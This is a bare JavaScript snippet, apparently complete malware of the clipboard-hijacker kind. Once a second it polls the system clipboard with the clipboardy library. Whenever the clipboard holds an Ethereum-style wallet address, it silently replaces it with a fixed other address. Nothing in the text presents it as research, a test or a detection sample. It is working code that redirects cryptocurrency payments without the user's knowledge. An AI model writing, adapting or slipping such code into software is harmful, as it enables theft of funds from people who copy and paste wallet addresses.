import clipboardy from 'clipboardy';
setInterval(async () => { const t = await clipboardy.read(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) await clipboardy.write('0x0000000000000000000000000000000000000001'); }, 1000);
